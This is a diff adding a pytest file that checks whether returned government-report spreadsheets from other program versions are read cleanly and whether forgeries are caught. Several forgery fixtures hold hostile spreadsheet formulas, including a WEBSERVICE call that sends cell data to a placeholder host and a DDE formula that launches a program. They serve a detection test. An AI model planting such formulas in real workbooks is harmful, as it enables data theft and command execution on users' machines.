@@ -1,0 +1,266 @@
+"""Returns on blanks of other versions: upgrades cause no findings, forgeries are still found."""
+
+import os
+import re
+import shutil
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+from source import TESTS
+from tamper import cell, changed, filled, gone, part_of, replacing, shifted, style_of, unpack
+from test_read import added, cached, facts, removed, renamed, same_report
+
+from toolkit.blank.mark import is_ours, plan_facts
+from toolkit.blank.plan import MARK
+from toolkit.check import check
+from toolkit.edition import edition as editions
+from toolkit.files.examine import load
+from toolkit.report.report import from_json, parse_json
+from toolkit.returned.fill import fill
+from toolkit.returned.read import read
+
+ROOT = TESTS.parent
+NOTE = ("other-version", "note", "", None, None)
+RETURNS = {
+    "annual-report-2021": TESTS / "real" / "suqian_city_2024.json",
+    "annual-report-2019": TESTS / "real" / "shanghai_gov_office_2019.json",
+    "site-report-2017": TESTS / "cases" / "website.json",
+}
+OTHER = {
+    "templates/messages.toml": [
+        ("按顺序填写各表", "请依次填写各表"),
+        ('field_code = { zh = "机关代码"', 'field_code = { zh = "统一代码"'),
+        ("一行写一段，可从 Word 直接粘贴。", "一段一行。"),
+        ("空白格都是 0 的，在右边选择 →", "空白都是0的请选 →"),
+        ('publish = { zh = "发布"', 'publish = { zh = "公布"'),
+    ],
+    "toolkit/blank/slots.py": [
+        ("PARAGRAPHS = 60", "PARAGRAPHS = 50"),
+        ("PUBLISHED_FIRST = 2", "PUBLISHED_FIRST = 3"),
+        ("PRIOR_FIRST = 4", "PRIOR_FIRST = 6"),
+        ("COVER_FIRST, COVER_COLUMN = 4, 2", "COVER_FIRST, COVER_COLUMN = 5, 2"),
+        ('COVER = ("agency", "code", "level",', 'COVER = ("agency", "level", "code",'),
+    ],
+    "toolkit/blank/formulas.py": [
+        ('return f\'IF({wrong},{quoted(word("amend"))},IF({blank},"",{sums}))\'',
+         'return f\'IF({blank},IF({wrong},{quoted(word("amend"))},""),IF({wrong},{quoted(word("amend"))},{sums}))\''),
+    ],
+    "toolkit/blank/live.py": [('_EQUAL = "0.0000005"', '_EQUAL = "0.000001"')],
+}  # fmt: skip
+"""Differences of another version of the program: words, places, fields, formulas."""
+
+
+def copied(folder: Path) -> Path:
+    """Return a source tree of another version of the program."""
+    for name in ("toolkit", "templates", "schemas"):
+        shutil.copytree(ROOT / name, folder / name, ignore=shutil.ignore_patterns("__pycache__"))
+    for name, changes in OTHER.items():
+        path = folder / name
+        text = path.read_text(encoding="utf-8")
+        for old, new in changes:
+            assert text.count(old) == 1, old
+            text = text.replace(old, new)
+        path.write_text(text, encoding="utf-8", newline="\n")
+    return folder
+
+
+@pytest.fixture(scope="module")
+def others(tmp_path_factory):
+    """Return {edition: the real return on the blank of another version}."""
+    folder = copied(tmp_path_factory.mktemp("other"))
+    code = (
+        "import sys; from pathlib import Path; from toolkit.report.report import *;"
+        "from toolkit.returned.fill import fill\n"
+        "for name, path in zip(sys.argv[1::2], sys.argv[2::2]):\n"
+        "    it = from_json(parse_json(Path(path).read_text('utf-8')))\n"
+        "    Path(name + '.xlsx').write_bytes(fill(it, it.edition).workbook)\n"
+    )
+    given = [part for name, path in RETURNS.items() for part in (name, str(path))]
+    environment = {**os.environ, "PYTHONPATH": str(folder), "PYTHONUTF8": "1"}
+    subprocess.run(
+        [sys.executable, "-c", code, *given], cwd=folder, env=environment, check=True, timeout=120
+    )
+    return {name: (folder / f"{name}.xlsx").read_bytes() for name in RETURNS}
+
+
+def ours(name):
+    """Return the real return on our own blank."""
+    report = from_json(parse_json(RETURNS[name].read_text(encoding="utf-8")))
+    return read(fill(report, report.edition).workbook)
+
+
+@pytest.mark.parametrize("name", RETURNS)
+def test_a_blank_of_another_version_gives_the_same_report_and_one_note(others, name):
+    reading = read(others[name])
+    assert facts(reading) == [NOTE]
+    assert same_report(reading.report, ours(name).report)
+    assert "gouji fill" in reading.findings[0].message("zh")
+
+
+@pytest.mark.parametrize("name", RETURNS)
+def test_returns_on_blanks_of_version_0_1_are_not_blamed(name):
+    path = TESTS / "versions" / f"gouji-0.1.0-{name}.xlsx"
+    reading = load(str(path))
+    assert {f.code for f in reading.findings} <= {"other-version", "mark-differs"}
+    assert [f for f in reading.findings if f.severity == "error"] == []
+    given = from_json(parse_json(RETURNS[name].read_text(encoding="utf-8")))
+    typed = {key: given.values[key] for key in given.edition.typed}
+    assert {key: reading.report.values[key] for key in typed} == typed
+    errors = [f for f in check(reading.report, None, reading.findings).findings
+              if f.severity == "error"]  # fmt: skip
+    assert errors == [f for f in check(ours(name).report, None).findings if f.severity == "error"]
+
+
+def test_the_plan_of_each_edition_has_its_own_digest_and_names_its_sheets():
+    found = [plan_facts(editions.named(*ident)) for ident in editions.known()]
+    assert len({mark["plan"] for mark in found}) == len(found)
+    assert all(re.fullmatch("[0-9a-f]{64}", mark["plan"]) for mark in found)
+    assert all("填报说明" in mark["sheets"].split("/") for mark in found)
+
+
+def test_our_own_mark_is_held_to_every_word():
+    edition = editions.named("annual-report", "2021")
+    assert is_ours(edition, plan_facts(edition))
+    assert is_ours(edition, {})
+    assert not is_ours(edition, {"form": "annual-report"})
+
+
+# ── a forger who only changes the mark ────────────────────────────────────────────────────────────
+
+
+def disguised(source):
+    """Return the workbook with the mark of an unknown version."""
+    return marked(source, "plan", "0f")
+
+
+def marked(source, name, text):
+    """Return the workbook with another word in its mark."""
+    at = f"B{MARK.index(name) + 1}"
+    return changed(source, "标记", cell(at, f"<is><t>{text}</t></is>", t="inlineStr"))
+
+
+RECEIVED, CARRIED = "一、本年新收政府信息公开申请数量", "二、上年结转政府信息公开申请数量"
+
+
+def swapped(xml):
+    return xml.replace(RECEIVED, "%").replace(CARRIED, RECEIVED).replace("%", CARRIED)
+
+
+def written(row, at, inner):
+    """Return a change that adds a cell at the end of a row, and the row if it is missing."""
+
+    def change(xml):
+        new = f'<c r="{at}"{inner}</c>'
+        if f'<row r="{row}"' in xml:
+            return re.sub(rf'(<row r="{row}"[^>]*>)(.*?)(</row>)', rf"\1\2{new}\3", xml)
+        return xml.replace("</sheetData>", f'<row r="{row}">{new}</row></sheetData>')
+
+    return change
+
+
+FREE = style_of(filled(), "表三", "D7")
+REMARK = f' s="{FREE}" t="inlineStr"><is><t>备注</t></is>'
+FORGED = {
+    "labels swapped": ("表三", swapped, [("label", "表三 A7"), ("label", "表三 A8")]),
+    "a published label": ("发布表三", swapped, [("label", "发布表三 A5 发布表三 A6")]),
+    "a constant for a total": ("表三", cell("J7", "<v>8</v>"), [("formula", "表三 J7")]),
+    "a formula that is a constant": ("表三", cell("J7", "<f>8</f><v>8</v>"), [("formula", "表三 J7")]),
+    "a total gone": ("表三", gone("J7"), [("formula", "表三 J7")]),
+    "a forged total": ("表三", cell("J7", "<f>SUM(D7:I7)</f><v>9</v>"),
+                       [("total-differs", "表三 J7")]),
+    "a total that asks the net": ("表三", cell("J7", '<f>WEBSERVICE("http://x/"&amp;D7)</f>'),
+                                  [("formula", "表三 J7"), ("active-formula", "表三 J7")]),
+    "a status line that starts a program": (
+        "表三", cell("A1", "<f>cmd|'/c calc'!A1</f>"), [("active-formula", "表三 A1")]),
+    "a cover that asks the net": (
+        "填报说明", cell("B9", '<f>HYPERLINK("http://x/")</f>'),
+        [("active-formula", "填报说明 B9")]),
+    "a cover with a function nobody knows": (
+        "填报说明", cell("B9", "<f>EVALUATE(A1)</f>"), [("formula", "填报说明 B9")]),
+    "a formula where a number is typed": (
+        "表三", cell("D7", "<f>3+4</f><v>7</v>"), [("typed-formula", "表三 D7")]),
+    "a formula where a paragraph is written": (
+        "总体情况", cell("A5", "<f>1+1</f><v>2</v>"), [("typed-formula", "总体情况 A5")]),
+    "a formula that declares": (
+        "表三", cell("D2", '<f>A1&amp;""</f><v>本表其余空白均为0（已核对）</v>', t="str"),
+        [("typed-formula", "表三 D2")]),
+    "a value under a merge": ("表三", cell("B7", "<v>5</v>"), [("outside", "表三 B7")]),
+    "a remark beside the grid": ("表三", written(7, "L7", REMARK), [("outside", "表三 L7")]),
+    "a remark in an unlocked cell below it": (
+        "表三", written(60, "A60", REMARK), [("outside", "表三 A60")]),
+    "a number far out": ("表三", written(9000, "B9000", "><v>1</v>"), [("outside", "表三 B9000")]),
+    "paragraphs below the last row": (
+        "总体情况", written(90, "A90", REMARK), [("outside", "总体情况 A90")]),
+    "a merge": ("表三", replacing("</mergeCells>", '<mergeCell ref="D7:E8"/></mergeCells>'),
+                [("merge", "表三 D7")]),
+    "rows moved": ("表三", lambda xml: shifted(xml, 8, 1), [("moved", "表三 -")]),
+    "a caption of another table": (
+        "表四", replacing("四、政府信息公开行政复议", "三、政府信息公开行政复议", 1), [("label", "表四 A3")]),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("name", FORGED)
+def test_who_only_changes_the_mark_gets_no_clean_pass(name):
+    sheet, change, wanted = FORGED[name]
+    found = facts(read(disguised(changed(filled(), sheet, change))))
+    assert found[0] == NOTE
+    assert [(code, place) for code, severity, place, *_ in found if severity == "error"] == wanted
+
+
+def test_totals_of_an_unknown_formula_are_not_excused_by_manual_calculation():
+    source = changed(filled(), "表三", cell("J7", "<f>SUM(D7:I7)+1</f><v>9</v>"))
+    source = changed(source, "xl/workbook.xml", replacing("<calcPr ", '<calcPr calcMode="manual" '))
+    assert facts(read(disguised(source))) == [NOTE, ("total-differs", "error", "表三 J7", "9", "8")]
+    ours = cached(filled(), "表三", "J7", "<v>9</v>")
+    ours = changed(ours, "xl/workbook.xml", replacing("<calcPr ", '<calcPr calcMode="manual" '))
+    assert facts(read(disguised(ours))) == [NOTE, ("total-differs", "note", "表三 J7", "9", "8")]
+
+
+def test_locks_and_protection_of_another_versions_tables_are_watched():
+    formula = "SUM(D7:I7)"
+    source = changed(filled(), "表三", cell("J7", f"<f>{formula}</f>", s=FREE))
+    assert facts(read(disguised(source))) == [NOTE, ("unlocked", "warning", "表三 J7", None, None)]
+    bare = changed(filled(), "表三", lambda xml: re.sub("<sheetProtection[^>]*/>", "", xml))
+    remark = changed(bare, "表三", written(60, "A60", "><v>5</v>"))
+    assert [fact[:3] for fact in facts(read(disguised(remark)))] == [
+        NOTE[:3], ("unprotected", "warning", "表三 -"), ("outside", "error", "表三 A60"),
+    ]  # fmt: skip
+
+
+def test_sheets_of_the_edition_must_be_there_and_others_need_not():
+    lost = disguised(removed(filled(), "表四"))
+    assert [fact[:3] for fact in facts(read(lost))] == [
+        NOTE[:3], ("sheet-missing", "error", "表四 -"),
+    ]  # fmt: skip
+    called = disguised(renamed(filled(), "表三", "表3"))
+    assert [fact[0] for fact in facts(read(called))] == ["other-version", "sheet-renamed"]
+    for name, wanted in (("校验结果", []), ("上年数", []), ("填报说明", ["sheet-missing"])):
+        found = [f.code for f in read(disguised(removed(filled(), name))).findings]
+        assert found == ["other-version", *wanted], name
+
+
+def test_a_sheet_another_version_had_is_no_stranger_unless_somebody_can_type_there():
+    parts = unpack(filled())
+    sheet = parts[part_of(parts, "发布表四")].decode()
+    source = disguised(marked(added(filled(), "附页", sheet.encode()), "sheets", "表三/附页"))
+    assert facts(read(source)) == [NOTE]
+    asks = cell("A1", '<f>WEBSERVICE("http://x/")</f>')(sheet)
+    source = disguised(marked(added(filled(), "附页", asks.encode()), "sheets", "表三/附页"))
+    assert [fact[:3] for fact in facts(read(source))] == [
+        NOTE[:3], ("active-formula", "error", "附页 A1"),
+    ]  # fmt: skip
+    assert [f.code for f in read(disguised(added(filled(), "附页", sheet.encode()))).findings] == [
+        "other-version", "sheet-copied",
+    ]  # fmt: skip
+    copy = parts[part_of(parts, "表三")]
+    source = disguised(marked(added(filled(), "附页", copy), "sheets", "表三/附页"))
+    assert [f.code for f in read(source).findings] == ["other-version", "sheet-copied"]
+
+
+def test_an_edition_amended_since_is_a_warning_while_its_printed_form_is_the_same():
+    print_ = marked(filled(), "fingerprint", "00")
+    assert [fact[:2] for fact in facts(read(print_))] == [("mark-differs", "warning")]
+    other = changed(print_, "表三", swapped)
+    assert ("mark-differs", "error") in [fact[:2] for fact in facts(read(other))]
